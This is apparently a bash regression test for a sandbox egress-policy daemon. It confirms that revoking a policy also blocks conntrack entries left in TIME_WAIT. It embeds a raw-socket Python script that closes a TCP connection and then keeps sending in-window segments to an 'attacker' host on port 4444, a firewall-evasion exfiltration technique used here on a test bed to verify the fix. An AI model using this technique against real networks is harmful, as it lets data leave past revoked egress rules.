#!/bin/bash
# 28-revoke-after-close: a connection the old policy allowed, which the
# sandbox has closed as far as conntrack can tell (both FINs and the last
# ACK: TIME_WAIT), and then goes on using with raw segments inside the
# window: conntrack forwards them (each renews TIME_WAIT's 120 s) under
# the entry's allow mark, in the kernel. (found by review, 2026-12-03)
# `policy set` left entries in LAST_ACK, TIME_WAIT and CLOSE alone, as
# carrying nothing more: the attacker host got every segment sent after
# the policy set that refused the connection. Now such an entry gets the
# deny mark too; it is no open connection cut (its row's end comes when
# conntrack lets it go, as scenario 62 checks). Checked at the attacker.
. "$(dirname "$0")/../lib/testbed.sh"
tb_init adv-revoke-closed
PORT=4444
tb_internet_up || { tb_fail "test bed up"; tb_done; }
tb_sluiced_start || { tb_fail "sluiced up"; tb_done; }

printf '{"sluice": {"allowedCidrs": ["%s:%d"]}}\n' "$TB_ADDR_ATK" "$PORT" \
    > "$TB_DIR/p1.json"
echo '{}' > "$TB_DIR/p2.json"
tb_check "sandbox add (p1: the attacker's :$PORT by CIDR)" tb_sandbox_add a "$TB_DIR/p1.json"
addr_a=$(tb_sandbox_field a addr)

cat > "$TB_DIR/tw.py" <<'EOF'
import os, select, socket, struct, sys, time
sys.path.insert(0, sys.argv[1])
import rawtcp
from rawtcp import ACK, FIN, PSH, RST, SYN
dst, port, go, n = sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5])
c = rawtcp.Conn(dst, port)
try:
    if c.handshake() is not None:
        print("handshake failed", flush=True); sys.exit(1)
    print("sport", c.sport, flush=True)
    c.send(0, b"hello\n")
    # the server answers, then closes after 1 s of silence: read its data
    # and its FIN
    fin_seq = None
    data_end = c.rcv
    end = time.time() + 5
    while time.time() < end and fin_seq is None:
        r, _, _ = select.select([c.rx], [], [], 0.2)
        if not r:
            continue
        pkt = c.rx.recv(65535)
        ihl = (pkt[0] & 15) * 4
        if pkt[12:16] != c.dst or pkt[9] != 6:
            continue
        t4 = pkt[ihl:]
        sp, dp, seq, ack, off, fl = struct.unpack("!HHIIBB", t4[:14])
        if sp != c.dport or dp != c.sport:
            continue
        dlen = struct.unpack("!H", pkt[2:4])[0] - ihl - (off >> 4) * 4
        if dlen > 0:
            data_end = max(data_end, seq + dlen)
            c.rcv = data_end
            c.send_ip(c.segment(c.isn + 7, ACK))
        if fl & FIN:
            fin_seq = seq + dlen
    if fin_seq is None:
        print("no FIN from the server", flush=True); sys.exit(1)
    c.rcv = fin_seq + 1
    # ACK its FIN, then our FIN; the server ACKs that (TIME_WAIT)
    c.send_ip(c.segment(c.isn + 7, ACK))
    c.send_ip(c.segment(c.isn + 7, FIN | ACK))
    time.sleep(0.5)
    print("closed", flush=True)
    for _ in range(200):
        if os.path.exists(go):
            break
        time.sleep(0.05)
    off = 7  # after our FIN (isn + 1 + 6 bytes + FIN)
    for i in range(n):
        data = b"AFTER-CLOSE-%02d\n" % i
        c.send(off, data, flags=PSH | ACK)
        off += len(data)
        time.sleep(0.3)
    print("sent", n, flush=True)
finally:
    c.close()
EOF
tb_in a "$TB_PY" "$TB_DIR/tw.py" "$TB_LIB" "$TB_ADDR_ATK" "$PORT" "$TB_DIR/go" 10 \
    > "$TB_DIR/tw.out" 2>&1 &
tw=$!
for _ in $(seq 100); do
	grep -q '^closed' "$TB_DIR/tw.out" && break
	sleep 0.1
done
tb_check "the raw connection was answered and closed both ways" grep -q '^closed' "$TB_DIR/tw.out"
sport=$(awk '/^sport/ {print $2}' "$TB_DIR/tw.out")
ct=$(ip netns exec "$TB_NETNS_GW" conntrack -L -p tcp -s "$addr_a" --sport "$sport" 2>/dev/null)
echo "# gateway conntrack before the policy set: $ct"
tb_assert_match "$ct" "TIME_WAIT .*mark=268435456" \
    "its entry lingers in TIME_WAIT with the allow mark"

tb_check "policy set p2 ({}: nothing allowed)" tb_sluice policy set "${P}-a" "$TB_DIR/p2.json"
t_cut=$(date +%s.%N)
touch "$TB_DIR/go"
wait "$tw"
cat "$TB_DIR/tw.out" | sed 's/^/# tw: /'
sleep 1
ct=$(ip netns exec "$TB_NETNS_GW" conntrack -L -p tcp -s "$addr_a" --sport "$sport" 2>/dev/null)
echo "# gateway conntrack after: $ct"
late=$("$TB_PY" - "$TB_DIR/attacker.packets" "$PORT" "$t_cut" <<'EOF'
import json, sys
n = b = 0
for l in open(sys.argv[1]):
    r = json.loads(l)
    if (r.get("dport") == int(sys.argv[2]) and r.get("len", 0) > 0
            and r["ts"] > float(sys.argv[3])):
        n += 1
        b += r["len"]
print(n, b)
EOF
)
echo "# segments/bytes with payload the attacker received after the policy set: $late"
tb_assert_eq "$late" "0 0" "no byte of the allowed-then-revoked connection reached the attacker after the policy set"
tb_assert_match "$ct" "mark=$(( 0x20000000 ))" "its entry carries the deny mark"
tb_assert_eq "$(tb_status revoked)" 0 "and it is not counted as an open connection cut"
tb_assert_eq "$(tb_sql "SELECT verdict, reason, ifnull(end_state, 'open') FROM flows
    WHERE src_port = $sport")" "allow|allowed_cidr|open" \
    "its row keeps its own end, to come (not revoked)"
tb_done
